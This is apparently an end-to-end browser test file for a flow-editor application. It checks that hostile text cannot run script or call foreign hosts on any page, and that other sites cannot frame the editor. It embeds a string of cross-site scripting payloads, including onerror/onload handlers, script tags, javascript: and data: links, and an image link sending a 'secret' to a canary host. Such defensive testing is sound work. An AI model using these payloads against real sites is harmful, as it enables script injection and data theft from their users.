using System.Collections.Concurrent;
using System.Text.Json;
using FlowBuilder.EndToEnd.Tests.Support;
using FlowBuilder.Testing.Hazards;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace FlowBuilder.EndToEnd.Tests;

/// <summary>Hostile texts where a browser shows them, and what pages of other sites do with this program's. The oracles are dialogs
/// and requests to other sites: there may be none.</summary>
[CancelAfter(120_000)]
public sealed class HazardTests
{
    private const string Hostile = """
        <img src="https://canary.example/a" onerror="alert(1)"><svg onload="alert(2)"></svg><script>alert(3)</script>
        ![picture](https://canary.example/?d=secret) [link](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>)
        <iframe src="https://canary.example/frame"></iframe><style>body{background:url(https://canary.example/css)}</style>

        ```mermaid
        graph TD; A["<img src=x onerror=alert(6)>"]
        ```
        """;

    [Test]
    [Hazard("SEC-54", "SEC-55")]
    public async Task Nothing_hostile_runs_or_calls_home_on_any_page()
    {
        await using var window = await Window.OpenAsync();
        var (dialogs, foreign) = (0, new ConcurrentQueue<string>());
        window.Page.Dialog += (_, dialog) =>
        {
            dialogs++;
            _ = dialog.DismissAsync();
        };
        window.Page.Context.Request += (_, request) =>
        {
            if (new Uri(request.Url) is { Scheme: "http" or "https" or "ws" } address && address.Authority != Stage.Program.Address.Authority) foreign.Enqueue(request.Url);
        };
        var text = JsonSerializer.Serialize(Hostile);
        var editor = await window.OpenFlowAsync($$$"""
            {
              "format": "flowbuilder/1", "name": {{{text}}}, "description": {{{text}}}, "tags": ["<img src=x onerror=alert(7)>"],
              "nodes": [
                { "id": "say", "type": "prompt.template", "version": 1, "title": {{{text}}}, "position": { "x": 0, "y": 0 }, "settings": { "template": {{{text}}} } },
                { "id": "fail", "type": "control.fail", "version": 1, "position": { "x": 360, "y": 200 }, "settings": { "message": {{{text}}} } },
                { "id": "result", "type": "output.text", "version": 1, "position": { "x": 360, "y": 0 }, "settings": { "name": "result" } }
              ],
              "notes": [{ "id": "n", "text": {{{text}}}, "position": { "x": 0, "y": 300 }, "size": { "width": 240, "height": 100 }, "color": "yellow" }],
              "edges": [{ "from": "say.text", "to": "result.value" }, { "from": "say.text", "to": "fail.value" }]
            }
            """);
        await editor.RunButton.ClickAsync();
        await Expect(editor.RunButton).ToBeEnabledAsync();
        await editor.SelectAsync("say");
        var flow = window.Page.Url;

        foreach (var page in new[] { "/", "/bin", "/templates", "/waiting", "/keys", "/memory", "/knowledge", "/tool-servers", "/nodes", $"{flow}/publish", flow })
            await window.Page.GotoAsync(page, new PageGotoOptions { WaitUntil = WaitUntilState.NetworkIdle });

        Assert.That((dialogs, string.Join(' ', foreign)), Is.EqualTo((0, "")));
    }

    [Test]
    [Hazard("SEC-59")]
    public async Task No_page_of_another_site_frames_the_editor()
    {
        await using var window = await Window.OpenAsync();
        await window.Page.SetContentAsync($"<iframe id='f' src='{Stage.Program.Address}'></iframe>", new PageSetContentOptions { WaitUntil = WaitUntilState.NetworkIdle });

        var frame = await (await window.Page.QuerySelectorAsync("#f"))!.ContentFrameAsync();

        Assert.That(await frame!.Locator("main").CountAsync(), Is.Zero);
        Assert.That(window.Complaints, Has.Some.Contains("frame"));
    }
}
